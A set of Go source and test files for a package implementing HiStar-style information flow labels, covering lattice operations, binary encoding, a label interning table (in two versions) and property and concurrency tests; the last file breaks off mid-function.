	if a.def > b.def {
		return false
	}
	for c := range a.cats(b) {
		if a.get(c) > b.get(c) {
			return false
		}
	}
	return true
}

func refCombine(a, b refLabel, op func(Level, Level) Level) refLabel {
	out := refLabel{def: op(a.def, b.def), m: make(map[Category]Level)}
	for c := range a.cats(b) {
		if lv := op(a.get(c), b.get(c)); lv != out.def {
			out.m[c] = lv
		}
	}
	return out
}

func (r refLabel) toLabel() Label {
	pairs := make([]Pair, 0, len(r.m))
	for c, lv := range r.m {
		pairs = append(pairs, P(c, lv))
	}
	return New(r.def, pairs...)
}

func TestRefModelLeqAgrees(t *testing.T) {
	f := func(a, b quickThreadLabel) bool {
		return a.L.Leq(b.L) == refLeq(refFrom(a.L), refFrom(b.L))
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestRefModelJoinMeetAgree(t *testing.T) {
	f := func(a, b quickThreadLabel) bool {
		join := refCombine(refFrom(a.L), refFrom(b.L), maxLevel).toLabel()
		meet := refCombine(refFrom(a.L), refFrom(b.L), minLevel).toLabel()
		return a.L.Join(b.L).Equal(join) && a.L.Meet(b.L).Equal(meet)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestRefModelGetAgrees(t *testing.T) {
	f := func(a quickThreadLabel) bool {
		r := refFrom(a.L)
		for c := Category(0); c < 12; c++ {
			if a.L.Get(c) != r.get(c) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestRefModelParseRoundTrip(t *testing.T) {
	f := func(a quickThreadLabel) bool {
		// The reference model rebuilt via New and the parse of the rendered
		// form must both equal the original.
		parsed, err := Parse(a.L.String(), nil)
		if err != nil {
			return false
		}
		return parsed.Equal(a.L) && refFrom(a.L).toLabel().Equal(a.L)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

// ---------------------------------------------------------------------------
// Canonical-representation invariants.
// ---------------------------------------------------------------------------

func TestPropCanonicalSortedNoDefault(t *testing.T) {
	f := func(a, b quickThreadLabel) bool {
		for _, l := range []Label{a.L.Join(b.L), a.L.Meet(b.L), a.L.RaiseJ(), a.L.LowerStar()} {
			pairs := l.Pairs()
			for i, p := range pairs {
				if p.Level == l.Default() {
					return false
				}
				if i > 0 && pairs[i-1].Category >= p.Category {
					return false
				}
			}
		}
		return true
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropStoredFingerprintMatchesRecomputed(t *testing.T) {
	f := func(a, b quickThreadLabel) bool {
		for _, l := range []Label{a.L, a.L.Join(b.L), a.L.Meet(b.L), a.L.With(Category(3), L3)} {
			if l.Fingerprint() != fingerprintCanonical(l.Default(), l.Pairs(), levelIdentity) {
				return false
			}
			if l.RaisedFingerprint() != l.RaiseJ().Fingerprint() {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropCodecRoundTrip(t *testing.T) {
	f := func(a quickThreadLabel) bool {
		enc, err := a.L.MarshalBinary()
		if err != nil {
			return false
		}
		var dec Label
		if err := dec.UnmarshalBinary(enc); err != nil {
			return false
		}
		return dec.Equal(a.L) &&
			dec.Fingerprint() == a.L.Fingerprint() &&
			dec.RaisedFingerprint() == a.L.RaisedFingerprint()
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

func TestPropInternSame(t *testing.T) {
	f := func(a quickThreadLabel) bool {
		i1 := Intern(a.L)
		rebuilt := New(a.L.Default(), a.L.Pairs()...)
		i2 := Intern(rebuilt)
		return Same(i1, i2) && i1.Equal(a.L)
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

// ---------------------------------------------------------------------------
// Concurrency: hammer the sharded cache and the interning table from many
// goroutines (meaningful under -race).
// ---------------------------------------------------------------------------

func TestCacheShardedConcurrent(t *testing.T) {
	// A small bound forces constant per-shard eviction while goroutines race
	// on lookups; every cached answer must still agree with the direct one.
	cache := NewCache(256)
	r := rand.New(rand.NewSource(7))
	labels := make([]Label, 64)
	for i := range labels {
		labels[i] = genLabel(r, true)
	}
	var wg sync.WaitGroup
	for w := 0; w < 16; w++ {
		wg.Add(1)
		go func(seed int64) {
			defer wg.Done()
			r := rand.New(rand.NewSource(seed))
			for i := 0; i < 4000; i++ {
				a := labels[r.Intn(len(labels))]
				b := labels[r.Intn(len(labels))]
				if cache.Leq(a, b) != a.Leq(b) {
					t.Errorf("cached Leq disagreement for %v ⊑ %v", a, b)
					return
				}
				if cache.CanObserve(a, b) != CanObserve(a, b) {
					t.Errorf("cached CanObserve disagreement for %v / %v", a, b)
					return
				}
				if cache.CanModify(a, b) != CanModify(a, b) {
					t.Errorf("cached CanModify disagreement for %v / %v", a, b)
					return
				}
				if cache.LeqRaised(a, b) != a.RaiseJ().Leq(b.RaiseJ()) {
					t.Errorf("cached LeqRaised disagreement for %v / %v", a, b)
					return
				}
			}
		}(int64(w))
	}
	wg.Wait()
	st := cache.Stats()
	if st.Hits == 0 || st.Misses == 0 {
		t.Errorf("expected both hits and misses, got %+v", st)
	}
	if cache.Len() > 256 {
		t.Errorf("cache exceeded bound: %d entries", cache.Len())
	}
	if st.Evictions == 0 {
		t.Error("small cache under churn should have evicted per shard")
	}
}

func TestInternConcurrent(t *testing.T) {
	r := rand.New(rand.NewSource(11))
	labels := make([]Label, 32)
	for i := range labels {
		labels[i] = genLabel(r, true)
	}
	canon := make([]Label, len(labels))
	for i, l := range labels {
		canon[i] = Intern(l)
	}
	var wg sync.WaitGroup
	for w := 0; w < 16; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i, l := range labels {
				rebuilt := New(l.Default(), l.Pairs()...)
				if got := Intern(rebuilt); !Same(got, canon[i]) {
					t.Errorf("Intern returned a non-canonical instance for %v", l)
					return
				}
			}
		}()
	}
	wg.Wait()
}

// TestPropGateMinLeqMatchesMaterialized checks the allocation-free gate
// minimum-label comparison against the materialized reference form
// (lᴶ ⊔ gᴶ)⋆ ⊑ r for random thread labels, gate labels, and requests.
func TestPropGateMinLeqMatchesMaterialized(t *testing.T) {
	f := func(l, g quickThreadLabel, r quickThreadLabel) bool {
		want := l.L.RaiseJ().Join(g.L.RaiseJ()).LowerStar().Leq(r.L)
		return GateMinLeq(l.L, g.L, r.L) == want
	}
	if err := quick.Check(f, quickCfg); err != nil {
		t.Error(err)
	}
}

// TestGateMinLeqZeroAlloc pins the allocation-free property the gate-entry
// hot path depends on.
func TestGateMinLeqZeroAlloc(t *testing.T) {
	l := New(L1, P(3, Star), P(5, L2))
	g := New(L1, P(4, Star), P(6, L3))
	r := New(L1, P(5, L2), P(6, L3))
	if !GateMinLeq(l, g, r) {
		t.Fatal("expected GateMinLeq to hold for this triple")
	}
	allocs := testing.AllocsPerRun(100, func() { GateMinLeq(l, g, r) })
	if allocs != 0 {
		t.Errorf("GateMinLeq allocates %.1f times, want 0", allocs)
	}
}
