package label

import (
	"encoding/binary"
	"fmt"
)

// Binary serialization of the canonical label form, used by the single-level
// store to persist object labels.  The encoding is the canonical
// representation itself — default level, entry count, then the sorted
// category/level pairs — so decoding performs no sorting: the entries are
// validated to be in strictly ascending category order and the fingerprints
// are recomputed once as the label is constructed.

// AppendBinary appends the canonical encoding of l to dst and returns the
// extended slice.
func (l Label) AppendBinary(dst []byte) []byte {
	dst = append(dst, byte(l.def))
	dst = binary.AppendUvarint(dst, uint64(len(l.pairs)))
	for _, p := range l.pairs {
		dst = binary.LittleEndian.AppendUint64(dst, uint64(p.Category))
		dst = append(dst, byte(p.Level))
	}
	return dst
}

// MarshalBinary implements encoding.BinaryMarshaler.
func (l Label) MarshalBinary() ([]byte, error) {
	return l.AppendBinary(make([]byte, 0, 2+9*len(l.pairs))), nil
}

// DecodeBinary decodes one label from the front of src, returning the label
// and the remaining bytes.  The input must be in canonical form (strictly
// ascending categories, no entry at the default level); anything else is
// rejected, since a non-canonical label would carry a wrong fingerprint.
func DecodeBinary(src []byte) (Label, []byte, error) {
	if len(src) < 2 {
		return Label{}, src, fmt.Errorf("label: truncated encoding")
	}
	def := Level(src[0])
	if !def.Valid() || def == HiStar {
		return Label{}, src, fmt.Errorf("label: invalid default level %d in encoding", src[0])
	}
	src = src[1:]
	n, sz := binary.Uvarint(src)
	if sz <= 0 {
		return Label{}, src, fmt.Errorf("label: bad entry count")
	}
	src = src[sz:]
	if n > uint64(len(src))/9 {
		return Label{}, src, fmt.Errorf("label: truncated encoding: %d entries, %d bytes left", n, len(src))
	}
	if def == Star && n == 0 {
		return Label{}, src, nil // the zero-label sentinel round-trips
	}
	if def == Star {
		return Label{}, src, fmt.Errorf("label: non-empty label with ⋆ default in encoding")
	}
	pairs := make([]Pair, n)
	var prev Category
	for i := range pairs {
		c := Category(binary.LittleEndian.Uint64(src))
		lv := Level(src[8])
		src = src[9:]
		if !c.Valid() {
			return Label{}, src, fmt.Errorf("label: invalid category %d in encoding", uint64(c))
		}
		if !lv.Valid() || lv == def {
			return Label{}, src, fmt.Errorf("label: non-canonical level %d in encoding", uint8(lv))
		}
		if i > 0 && c <= prev {
			return Label{}, src, fmt.Errorf("label: categories out of order in encoding")
		}
		prev = c
		pairs[i] = P(c, lv)
	}
	return newCanonical(def, pairs), src, nil
}

// UnmarshalBinary implements encoding.BinaryUnmarshaler; trailing bytes are
// an error.
func (l *Label) UnmarshalBinary(data []byte) error {
	dec, rest, err := DecodeBinary(data)
	if err != nil {
		return err
	}
	if len(rest) != 0 {
		return fmt.Errorf("label: %d trailing bytes after encoding", len(rest))
	}
	*l = dec
	return nil
}
