package label

import "sync"

// Interning gives hot labels (thread labels, the default {1} object label,
// the {2} default clearance) one shared canonical backing array, so that
// equal interned labels satisfy Same and Equal short-circuits to a pointer
// comparison.  Interning is a cold-path operation performed when a label is
// created or installed (thread creation, self_set_label, gate entry);
// the hot-path comparisons then run on the shared representation.

// emptyLabels holds the canonical instances of the four pair-free labels
// {0}, {1}, {2}, {3}; New with no pairs always returns one of these.
var emptyLabels = [HiStar]Label{
	L0: newCanonical(L0, nil),
	L1: newCanonical(L1, nil),
	L2: newCanonical(L2, nil),
	L3: newCanonical(L3, nil),
}

func emptyLabel(def Level) Label { return emptyLabels[def] }

// maxInternedLabels bounds the interning table.  Interning is advisory — it
// only provides the Same fast path — so when label churn (e.g. a workload
// looping category_create, whose fresh categories make every new thread
// label unique) fills the table, it is simply cleared: labels interned
// before the clear stay valid, they just stop being pointer-equal to labels
// interned after it.
const maxInternedLabels = 1 << 16

// internTable is the global label interning table, keyed by fingerprint with
// exact verification, so a (vanishingly unlikely) fingerprint collision can
// never alias two distinct labels.
var internTable = struct {
	mu    sync.RWMutex
	m     map[Fingerprint][]Label
	count int
}{m: make(map[Fingerprint][]Label)}

// Intern returns the canonical shared instance of l: the first time a label
// value is interned its representation becomes the canonical one, and every
// later Intern of an equal label returns that same backing array.  Interned
// equal labels satisfy Same, making Equal a pointer comparison.  The zero
// Label and pair-free labels are already canonical and pass through without
// touching the table.
func Intern(l Label) Label {
	if len(l.pairs) == 0 {
		if l.IsZero() {
			return l
		}
		return emptyLabel(l.def)
	}
	fp := l.Fingerprint()
	internTable.mu.RLock()
	for _, cand := range internTable.m[fp] {
		if cand.Equal(l) {
			internTable.mu.RUnlock()
			return cand
		}
	}
	internTable.mu.RUnlock()

	internTable.mu.Lock()
	defer internTable.mu.Unlock()
	for _, cand := range internTable.m[fp] {
		if cand.Equal(l) {
			return cand
		}
	}
	if internTable.count >= maxInternedLabels {
		internTable.m = make(map[Fingerprint][]Label)
		internTable.count = 0
	}
	internTable.m[fp] = append(internTable.m[fp], l)
	internTable.count++
	return l
}

// InternedCount returns the number of distinct labels in the interning
// table (statistics and tests).
func InternedCount() int {
	internTable.mu.RLock()
	defer internTable.mu.RUnlock()
	return internTable.count
}
