package label

import "sync"

// Interning gives hot labels (thread labels, the default {1} object label,
// the {2} default clearance) one shared canonical backing array, so that
// equal interned labels satisfy Same and Equal short-circuits to a pointer
// comparison.  Interning is a cold-path operation performed when a label is
// created or installed (thread creation, self_set_label, gate entry);
// the hot-path comparisons then run on the shared representation.

// emptyLabels holds the canonical instances of the four pair-free labels
// {0}, {1}, {2}, {3}; New with no pairs always returns one of these.
var emptyLabels = [HiStar]Label{
	L0: newCanonical(L0, nil),
	L1: newCanonical(L1, nil),
	L2: newCanonical(L2, nil),
	L3: newCanonical(L3, nil),
}

func emptyLabel(def Level) Label { return emptyLabels[def] }

// maxInternedLabels bounds the interning table across all shards.  Interning
// is advisory — it only provides the Same fast path — so when label churn
// (e.g. a many-user web workload whose fresh per-user categories make every
// new thread label unique) fills a shard, the shard discards roughly half of
// its entries rather than clearing outright: labels interned before an
// eviction stay valid, they just stop being pointer-equal to labels interned
// after it, and the survivors keep their fast path.  The old single-table
// full clear caused eviction storms under sustained churn — every hot label
// lost its canonical instance at once and had to be re-interned through the
// write lock.
const maxInternedLabels = 1 << 16

// internShardCount shards the table by fingerprint so that unrelated labels
// do not contend on one RWMutex and an eviction only disturbs 1/64th of the
// interned population.
const internShardCount = 64

const maxInternedPerShard = maxInternedLabels / internShardCount

// internShard is one fingerprint-sharded slice of the interning table, keyed
// by fingerprint with exact verification, so a (vanishingly unlikely)
// fingerprint collision can never alias two distinct labels.
type internShard struct {
	mu        sync.RWMutex
	m         map[Fingerprint][]Label
	count     int
	evictions uint64
	_         [32]byte // keep shards off each other's cache lines
}

var internTable [internShardCount]internShard

func init() {
	for i := range internTable {
		internTable[i].m = make(map[Fingerprint][]Label)
	}
}

// internShardFor picks the shard for a fingerprint.  The fingerprint is
// already a 64-bit hash, so high bits select the shard directly.
func internShardFor(fp Fingerprint) *internShard {
	return &internTable[uint64(fp)>>(64-6)]
}

// evictLocked discards whole fingerprint buckets (in Go's randomized map
// iteration order) until the shard is at most half full.  Partial eviction
// keeps the other half of the shard's hot labels canonical instead of
// resetting the whole population.
func (s *internShard) evictLocked() {
	target := maxInternedPerShard / 2
	for fp, labels := range s.m {
		if s.count <= target {
			break
		}
		s.count -= len(labels)
		s.evictions += uint64(len(labels))
		delete(s.m, fp)
	}
}

// Intern returns the canonical shared instance of l: the first time a label
// value is interned its representation becomes the canonical one, and every
// later Intern of an equal label returns that same backing array.  Interned
// equal labels satisfy Same, making Equal a pointer comparison.  The zero
// Label and pair-free labels are already canonical and pass through without
// touching the table.
func Intern(l Label) Label {
	if len(l.pairs) == 0 {
		if l.IsZero() {
			return l
		}
		return emptyLabel(l.def)
	}
	fp := l.Fingerprint()
	s := internShardFor(fp)
	s.mu.RLock()
	for _, cand := range s.m[fp] {
		if cand.Equal(l) {
			s.mu.RUnlock()
			return cand
		}
	}
	s.mu.RUnlock()

	s.mu.Lock()
	defer s.mu.Unlock()
	for _, cand := range s.m[fp] {
		if cand.Equal(l) {
			return cand
		}
	}
	if s.count >= maxInternedPerShard {
		s.evictLocked()
	}
	s.m[fp] = append(s.m[fp], l)
	s.count++
	return l
}

// InternedCount returns the number of distinct labels in the interning
// table (statistics and tests).
func InternedCount() int {
	total := 0
	for i := range internTable {
		s := &internTable[i]
		s.mu.RLock()
		total += s.count
		s.mu.RUnlock()
	}
	return total
}

// InternStats describes the interning table's occupancy and churn.
type InternStats struct {
	Count     int    // live interned labels across all shards
	Evictions uint64 // labels discarded by shard evictions since start
	Shards    int    // number of fingerprint shards
	MaxShard  int    // occupancy of the fullest shard (imbalance indicator)
}

// InternStatsSnapshot returns current interning table statistics.
func InternStatsSnapshot() InternStats {
	st := InternStats{Shards: internShardCount}
	for i := range internTable {
		s := &internTable[i]
		s.mu.RLock()
		st.Count += s.count
		st.Evictions += s.evictions
		if s.count > st.MaxShard {
			st.MaxShard = s.count
		}
		s.mu.RUnlock()
	}
	return st
}
