// Package label implements the Asbestos-style information flow labels used
// by the HiStar kernel (Zeldovich et al., OSDI 2006, Section 2).
//
// A label is a function from categories to taint levels.  All but a small
// number of categories map to a default level (usually 1); the label stores
// only the exceptions.  Levels are ordered
//
//	⋆ < 0 < 1 < 2 < 3 < J
//
// where ⋆ ("Star") denotes ownership/untainting privilege and J ("HiStar")
// is the same ownership level treated as high during reads.  J never appears
// in stored labels; it exists only transiently during access checks.
//
// # Canonical representation
//
// A Label is immutable and canonical: the explicit category/level pairs are
// kept in a slice sorted by ascending category, with no duplicate categories
// and no entry whose level equals the default.  Two labels denoting the same
// function therefore have byte-identical canonical forms, and the 64-bit
// Fingerprint of that form is computed exactly once, at construction, and
// stored in the label.  The raised fingerprint (the fingerprint of the
// superscript-J form Lᴶ) is precomputed alongside it, so the cached access
// checks never hash, sort, or even materialize Lᴶ on a cache hit.
//
// Because the representation is canonical, Leq, Join and Meet are
// linear-time merges over the two sorted slices: Leq allocates nothing, and
// Join/Meet allocate only the single output slice.
//
// The package provides the ⊑ partial order (Leq), the lattice join ⊔ (Join)
// and meet ⊓ (Meet), the superscript-J and superscript-⋆ operators that
// shift ownership between its low and high readings, and the derived access
// checks used throughout the kernel (CanObserve, CanModify, CanAllocate,
// CanRaiseLabelTo, CanSetClearanceTo).  Hot labels can additionally be
// interned (Intern) so that equal labels share one canonical backing array
// and compare by pointer; see intern.go.
package label

import (
	"fmt"
	"sort"
	"strings"
)

// Level is a taint level in a label.
type Level uint8

// Taint levels, in increasing order.  Star compares below every numeric
// level and HiStar above every numeric level, implementing the paper's
// ⋆ < 0 < 1 < 2 < 3 < J ordering.
const (
	Star   Level = iota // ⋆: ownership / untainting privilege (low reading)
	L0                  // 0: cannot be written/modified by default
	L1                  // 1: default level, no restriction
	L2                  // 2: cannot be untainted/exported by default
	L3                  // 3: cannot be read/observed by default
	HiStar              // J: ownership treated as high; never stored in labels
)

// DefaultLevel is the conventional background taint level for objects.
const DefaultLevel = L1

// DefaultClearanceLevel is the conventional default clearance level for
// threads ({2} in the paper).
const DefaultClearanceLevel = L2

// String renders a level the way the paper writes it.
func (l Level) String() string {
	switch l {
	case Star:
		return "*"
	case HiStar:
		return "J"
	case L0, L1, L2, L3:
		return fmt.Sprintf("%d", int(l)-1)
	default:
		return fmt.Sprintf("Level(%d)", uint8(l))
	}
}

// Valid reports whether l is one of the six defined levels.
func (l Level) Valid() bool { return l <= HiStar }

// Numeric reports whether l is one of the four numeric levels 0..3.
func (l Level) Numeric() bool { return l >= L0 && l <= L3 }

// LevelFromInt converts the paper's numeric levels 0..3 into a Level.
func LevelFromInt(n int) (Level, error) {
	if n < 0 || n > 3 {
		return 0, fmt.Errorf("label: numeric level %d out of range [0,3]", n)
	}
	return Level(n + 1), nil
}

// Int returns the paper-facing integer for a numeric level, or -1 for Star
// and 4 for HiStar (their positions in the total order).
func (l Level) Int() int {
	switch l {
	case Star:
		return -1
	case HiStar:
		return 4
	default:
		return int(l) - 1
	}
}

// Label is an immutable mapping from categories to levels with a default
// level for all unlisted categories.  The explicit pairs are stored in
// canonical form (sorted by category, levels differing from the default) and
// the fingerprints of the label and of its superscript-J form are computed
// once at construction.  The zero value denotes the empty ⋆-default label
// and is used by callers as a "use the default label" sentinel; use New or
// Parse to build meaningful labels.  Labels are value types: operations
// return new labels and never mutate their receivers, so a Label may be
// shared freely between goroutines.
type Label struct {
	def   Level
	pairs []Pair // canonical: ascending category, no level == def
	fp    Fingerprint
	fpJ   Fingerprint // fingerprint of RaiseJ() form
}

// Pair is an explicit category/level entry used when constructing labels.
type Pair struct {
	Category Category
	Level    Level
}

// P is shorthand for constructing a Pair.
func P(c Category, l Level) Pair { return Pair{Category: c, Level: l} }

// newCanonical wraps an already-canonical pair slice (sorted by ascending
// category, unique categories, no level equal to def) into a Label,
// computing both fingerprints.  The slice is owned by the new label and must
// not be mutated afterwards.
func newCanonical(def Level, pairs []Pair) Label {
	if len(pairs) == 0 {
		pairs = nil
	}
	return Label{
		def:   def,
		pairs: pairs,
		fp:    fingerprintCanonical(def, pairs, levelIdentity),
		fpJ:   fingerprintCanonical(def, pairs, levelRaiseJ),
	}
}

// New returns a label with the given default level and explicit
// category/level pairs.  Pairs whose level equals the default are elided and
// duplicate categories keep the last occurrence, so that equal labels have
// identical canonical representations.  Labels with no explicit pairs are
// interned: New(L1) always returns the same backing representation.
func New(def Level, pairs ...Pair) Label {
	if !def.Valid() || def == HiStar {
		panic(fmt.Sprintf("label: invalid default level %v", def))
	}
	for _, p := range pairs {
		if !p.Level.Valid() {
			panic(fmt.Sprintf("label: invalid level %v for category %v", p.Level, p.Category))
		}
	}
	if len(pairs) == 0 {
		return emptyLabel(def)
	}
	buf := make([]Pair, len(pairs))
	copy(buf, pairs)
	sort.SliceStable(buf, func(i, j int) bool { return buf[i].Category < buf[j].Category })
	// Collapse duplicate categories (last occurrence wins, matching the old
	// map semantics) and elide default-level entries.
	out := buf[:0]
	for i := 0; i < len(buf); i++ {
		if i+1 < len(buf) && buf[i+1].Category == buf[i].Category {
			continue // a later entry for the same category supersedes this one
		}
		if buf[i].Level != def {
			out = append(out, buf[i])
		}
	}
	if len(out) == 0 {
		return emptyLabel(def)
	}
	return newCanonical(def, out)
}

// Default returns the label's default level.
func (l Label) Default() Level { return l.def }

// Get returns the level of category c.
func (l Label) Get(c Category) Level {
	if i, ok := l.find(c); ok {
		return l.pairs[i].Level
	}
	return l.def
}

// find binary-searches the canonical pairs for category c.
func (l Label) find(c Category) (int, bool) {
	lo, hi := 0, len(l.pairs)
	for lo < hi {
		mid := int(uint(lo+hi) >> 1)
		if l.pairs[mid].Category < c {
			lo = mid + 1
		} else {
			hi = mid
		}
	}
	return lo, lo < len(l.pairs) && l.pairs[lo].Category == c
}

// Explicit returns the categories whose level differs from the default, in
// ascending category order.
func (l Label) Explicit() []Category {
	out := make([]Category, len(l.pairs))
	for i, p := range l.pairs {
		out[i] = p.Category
	}
	return out
}

// Pairs returns a copy of the canonical explicit entries, in ascending
// category order.
func (l Label) Pairs() []Pair {
	return append([]Pair(nil), l.pairs...)
}

// NumExplicit returns the number of categories mapped away from the default.
func (l Label) NumExplicit() int { return len(l.pairs) }

// IsZero reports whether l is the zero Label (the "use the default label"
// sentinel accepted by the Unix library file calls).
func (l Label) IsZero() bool { return l.def == Star && len(l.pairs) == 0 }

// With returns a copy of l with category c set to level lv.
func (l Label) With(c Category, lv Level) Label {
	if !lv.Valid() {
		panic(fmt.Sprintf("label: invalid level %v", lv))
	}
	i, ok := l.find(c)
	switch {
	case ok && lv == l.def:
		// Remove the explicit entry.
		out := make([]Pair, 0, len(l.pairs)-1)
		out = append(out, l.pairs[:i]...)
		out = append(out, l.pairs[i+1:]...)
		return newCanonical(l.def, out)
	case ok:
		if l.pairs[i].Level == lv {
			return l
		}
		out := append([]Pair(nil), l.pairs...)
		out[i].Level = lv
		return newCanonical(l.def, out)
	case lv == l.def:
		return l
	default:
		out := make([]Pair, 0, len(l.pairs)+1)
		out = append(out, l.pairs[:i]...)
		out = append(out, P(c, lv))
		out = append(out, l.pairs[i:]...)
		return newCanonical(l.def, out)
	}
}

// Without returns a copy of l with category c reset to the default level.
func (l Label) Without(c Category) Label {
	i, ok := l.find(c)
	if !ok {
		return l
	}
	out := make([]Pair, 0, len(l.pairs)-1)
	out = append(out, l.pairs[:i]...)
	out = append(out, l.pairs[i+1:]...)
	return newCanonical(l.def, out)
}

// WithDefault returns a copy of l whose default level is def.  Categories
// previously at the old default remain at the old default (they become
// explicit entries), so the label denotes the same function except for
// categories never mentioned.
func (l Label) WithDefault(def Level) Label {
	if !def.Valid() || def == HiStar {
		panic(fmt.Sprintf("label: invalid default level %v", def))
	}
	if def == l.def {
		return l
	}
	out := make([]Pair, 0, len(l.pairs))
	for _, p := range l.pairs {
		if p.Level != def {
			out = append(out, p)
		}
	}
	return newCanonical(def, out)
}

// Equal reports whether two labels denote the same function.  Because the
// representation is canonical, this is a default-level comparison plus a
// pairwise slice comparison; interned labels short-circuit via Same.
func (l Label) Equal(m Label) bool {
	if Same(l, m) {
		return true
	}
	if l.def != m.def || len(l.pairs) != len(m.pairs) {
		return false
	}
	for i, p := range l.pairs {
		if m.pairs[i] != p {
			return false
		}
	}
	return true
}

// Same reports whether l and m share the identical canonical backing (the
// pointer-comparable fast path for interned labels).  Same(l, m) implies
// Equal(l, m); the converse holds only for interned labels.
func Same(l, m Label) bool {
	if l.def != m.def || len(l.pairs) != len(m.pairs) {
		return false
	}
	return len(l.pairs) == 0 || &l.pairs[0] == &m.pairs[0]
}

// HasStar reports whether the label maps any category to ⋆ (ownership).
// Only thread and gate labels may contain ⋆; the kernel enforces this.
func (l Label) HasStar() bool {
	if l.def == Star {
		return true
	}
	for _, p := range l.pairs {
		if p.Level == Star {
			return true
		}
	}
	return false
}

// hasLevel reports whether any explicit entry carries level lv.
func (l Label) hasLevel(lv Level) bool {
	for _, p := range l.pairs {
		if p.Level == lv {
			return true
		}
	}
	return false
}

// Owns reports whether the label maps category c to ⋆.
func (l Label) Owns(c Category) bool { return l.Get(c) == Star }

// Owned returns the categories the label owns (maps to ⋆), sorted.
func (l Label) Owned() []Category {
	var out []Category
	for _, p := range l.pairs {
		if p.Level == Star {
			out = append(out, p.Category)
		}
	}
	return out
}

// RaiseJ returns the superscript-J form Lᴶ: every ⋆ becomes J.  Used when
// the owning thread is reading, so ownership is treated as high.  Labels
// with no ownership are returned unchanged without allocating.
func (l Label) RaiseJ() Label {
	if l.def != Star && !l.hasLevel(Star) {
		return l
	}
	return l.mapLevels(levelRaiseJ)
}

// LowerStar returns the superscript-⋆ form L⋆: every J becomes ⋆.  Used to
// translate a join result back into a storable label.  Labels with no J
// entries are returned unchanged without allocating.
func (l Label) LowerStar() Label {
	if l.def != HiStar && !l.hasLevel(HiStar) {
		return l
	}
	return l.mapLevels(levelLowerStar)
}

func levelIdentity(lv Level) Level { return lv }

func levelRaiseJ(lv Level) Level {
	if lv == Star {
		return HiStar
	}
	return lv
}

func levelLowerStar(lv Level) Level {
	if lv == HiStar {
		return Star
	}
	return lv
}

// mapLevels applies f pointwise.  Mapping never reorders categories, so the
// result stays sorted; entries whose mapped level equals the mapped default
// are elided to restore canonical form.
func (l Label) mapLevels(f func(Level) Level) Label {
	def := f(l.def)
	out := make([]Pair, 0, len(l.pairs))
	for _, p := range l.pairs {
		if lv := f(p.Level); lv != def {
			out = append(out, P(p.Category, lv))
		}
	}
	return newCanonical(def, out)
}

// Leq reports the ⊑ relation: l ⊑ m iff for every category c,
// l(c) ≤ m(c) in the order ⋆ < 0 < 1 < 2 < 3 < J.  It is a single linear
// merge over the two canonical slices and allocates nothing.
func (l Label) Leq(m Label) bool {
	if l.def > m.def {
		return false
	}
	lp, mp := l.pairs, m.pairs
	i, j := 0, 0
	for i < len(lp) && j < len(mp) {
		switch {
		case lp[i].Category < mp[j].Category:
			if lp[i].Level > m.def {
				return false
			}
			i++
		case lp[i].Category > mp[j].Category:
			if l.def > mp[j].Level {
				return false
			}
			j++
		default:
			if lp[i].Level > mp[j].Level {
				return false
			}
			i++
			j++
		}
	}
	for ; i < len(lp); i++ {
		if lp[i].Level > m.def {
			return false
		}
	}
	for ; j < len(mp); j++ {
		if l.def > mp[j].Level {
			return false
		}
	}
	return true
}

// Join returns the least upper bound l ⊔ m: pointwise maximum of levels.
// It is a linear merge allocating only the output slice.
func (l Label) Join(m Label) Label { return l.merge(m, maxLevel) }

// Meet returns the greatest lower bound l ⊓ m: pointwise minimum of levels.
// It is a linear merge allocating only the output slice.
func (l Label) Meet(m Label) Label { return l.merge(m, minLevel) }

// merge computes the pointwise combination of l and m under op (max for
// join, min for meet) as one pass over the two sorted slices.
func (l Label) merge(m Label, op func(Level, Level) Level) Label {
	def := op(l.def, m.def)
	lp, mp := l.pairs, m.pairs
	out := make([]Pair, 0, len(lp)+len(mp))
	emit := func(c Category, lv Level) {
		if lv != def {
			out = append(out, P(c, lv))
		}
	}
	i, j := 0, 0
	for i < len(lp) && j < len(mp) {
		switch {
		case lp[i].Category < mp[j].Category:
			emit(lp[i].Category, op(lp[i].Level, m.def))
			i++
		case lp[i].Category > mp[j].Category:
			emit(mp[j].Category, op(l.def, mp[j].Level))
			j++
		default:
			emit(lp[i].Category, op(lp[i].Level, mp[j].Level))
			i++
			j++
		}
	}
	for ; i < len(lp); i++ {
		emit(lp[i].Category, op(lp[i].Level, m.def))
	}
	for ; j < len(mp); j++ {
		emit(mp[j].Category, op(l.def, mp[j].Level))
	}
	return newCanonical(def, out)
}

func maxLevel(a, b Level) Level {
	if a > b {
		return a
	}
	return b
}

func minLevel(a, b Level) Level {
	if a < b {
		return a
	}
	return b
}

// String renders the label in the paper's notation, e.g. {br*, v3, 1}.
// Categories are printed as cN where N is the category identifier, unless a
// name has been registered with the category allocator that produced them;
// use Format with a Namer for symbolic output.
func (l Label) String() string { return l.Format(nil) }

// Namer maps categories to human-readable names for display.
type Namer interface {
	CategoryName(Category) (string, bool)
}

// Format renders the label using names from the (optional) Namer.
func (l Label) Format(n Namer) string {
	var b strings.Builder
	b.WriteByte('{')
	for _, p := range l.pairs {
		name := fmt.Sprintf("c%d", uint64(p.Category))
		if n != nil {
			if s, ok := n.CategoryName(p.Category); ok {
				name = s
			}
		}
		fmt.Fprintf(&b, "%s%s, ", name, p.Level.String())
	}
	b.WriteString(l.def.String())
	b.WriteByte('}')
	return b.String()
}

// ---------------------------------------------------------------------------
// Derived access checks (Section 2.2 and Section 3 of the paper).
// ---------------------------------------------------------------------------

// CanObserve reports whether a thread labeled thread may observe (read) an
// object labeled obj: obj ⊑ threadᴶ ("no read up").
func CanObserve(thread, obj Label) bool {
	return obj.Leq(thread.RaiseJ())
}

// CanModify reports whether a thread labeled thread may modify an object
// labeled obj, which in HiStar implies observing it:
// thread ⊑ obj ⊑ threadᴶ ("no write down").
func CanModify(thread, obj Label) bool {
